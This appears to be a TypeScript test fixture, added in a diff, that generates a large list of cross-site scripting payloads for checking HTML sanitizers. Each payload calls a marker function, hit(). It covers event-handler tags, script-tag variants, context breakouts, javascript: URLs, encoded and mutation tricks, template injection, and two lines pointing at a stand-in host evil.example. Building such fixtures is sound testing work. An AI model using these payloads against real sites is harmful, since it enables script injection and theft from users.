@@ -1,0 +1,146 @@
+// Texts that would be programs if a page let them: each calls `hit()` where it is not taken as the text it is.
+
+const call = "hit()";
+
+/** Elements that run something by themselves, with the event that runs it. */
+const selfish: readonly (readonly [open: string, event: string])[] = [
+  ["img src=x", "onerror"],
+  ["image src=x", "onerror"],
+  ["input autofocus", "onfocus"],
+  ["select autofocus", "onfocus"],
+  ["textarea autofocus", "onfocus"],
+  ["button autofocus", "onfocus"],
+  ["a href=# autofocus", "onfocus"],
+  ["div tabindex=0 autofocus", "onfocus"],
+  ["details open", "ontoggle"],
+  ["video src=x", "onerror"],
+  ["audio src=x", "onerror"],
+  ["video><source", "onerror"],
+  ["svg", "onload"],
+  ["svg><image href=x", "onerror"],
+  ["svg><animate attributeName=x dur=1s", "onbegin"],
+  ["svg><set attributeName=x to=1", "onbegin"],
+  ["math><mi xml:id=x", "onfocus"],
+  ["body", "onload"],
+  ["body", "onpageshow"],
+  ["iframe", "onload"],
+  ["object data=x", "onerror"],
+  ["embed src=x", "onload"],
+  ["link rel=stylesheet href=x", "onerror"],
+  ["style", "onload"],
+  ["script src=x", "onerror"],
+  ["marquee", "onstart"],
+  ["p style=animation:x", "onanimationstart"],
+  ["x contenteditable autofocus", "onfocus"],
+  ["form><button autofocus", "onfocus"],
+  ["track src=x", "onerror"],
+];
+
+const elements = selfish.flatMap(([open, event]) => [
+  `<${open} ${event}=${call}>`,
+  `<${open.toUpperCase()} ${event.toUpperCase()}="${call}">`,
+  `"><${open}/${event}=${call}//`,
+]);
+
+const scripts = [
+  `<script>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script >${call}</script >`,
+  `<script\n>${call}</script\n>`,
+  `<script/x>${call}</script>`,
+  `<<script>${call}//<</script>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<script>${call}`,
+  `<script type=module>${call}</script>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><script href="data:,${call}"/></svg>`,
+  `<math><script>${call}</script></math>`,
+  `<script src="data:text/javascript,${call}"></script>`,
+  `<script src=//evil.example></script>`,
+];
+
+/** Ways out of the place where a text may stand: an attribute, a comment, a title, a script, a style. */
+const exits = [
+  `"`,
+  `'`,
+  "`",
+  `">`,
+  `'>`,
+  `-->`,
+  `--!>`,
+  `</title>`,
+  `</textarea>`,
+  `</style>`,
+  `</script>`,
+  `</SCRIPT\n>`,
+  `</noscript>`,
+  `</template>`,
+  `</iframe>`,
+  `]]>`,
+  `*/`,
+  `\\"}`,
+  `"}]}`,
+  `');`,
+  `";`,
+  "`);",
+  `\\u0022;`,
+];
+const leaving = exits.flatMap((exit) => [
+  `${exit}<script>${call}</script>`,
+  `${exit}${call}//`,
+  `${exit} onmouseover=${call} autofocus onfocus=${call} x=`,
+]);
+
+const addresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java&#x73;cript:${call}`,
+  `&#106;avascript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `vbscript:${call}`,
+  `<a href=javascript:${call}>x</a>`,
+  `<a href="&#1;javascript:${call}">x</a>`,
+  `[x](javascript:${call})`,
+  `![x](x"onerror="${call})`,
+  `<https://x.example/"onmouseover="${call}>`,
+  `<form action=javascript:${call}><button>x</form>`,
+  `<iframe src=javascript:${call}>`,
+  `<iframe srcdoc="<script>parent.${call}</script>">`,
+  `<object data=javascript:${call}>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `<base href=//evil.example/>`,
+  `<link rel=import href=data:,${call}>`,
+];
+
+/** What a first reading leaves alone and a second one runs. */
+const turning = [
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#60;script&#62;${call}&#60;/script&#62;`,
+  `&amp;lt;script&amp;gt;${call}`,
+  `%3Cscript%3E${call}%3C/script%3E`,
+  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
+  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  `<!--<script>${call}</script>-->`,
+  `<!--<script>`,
+  `<!--`,
+  `<![CDATA[<script>${call}</script>]]>`,
+  `<?xml version="1.0"?><script>${call}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  `<template><script>${call}</script></template>`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `#{${call}}`,
+  `<%= ${call} %>`,
+  `__html:<img src=x onerror=${call}>`,
+  `{"__html":"<img src=x onerror=${call}>"}`,
+  `＜script＞${call}＜/script＞`,
+  `\u2028${call}//`,
+  `\u2029</script><script>${call}</script>`,
+  `$&<script>${call}</script>`,
+  `$'<img src=x onerror=${call}>`,
+];
+
+export const payloads: readonly string[] = [...new Set([...elements, ...scripts, ...leaving, ...addresses, ...turning])];
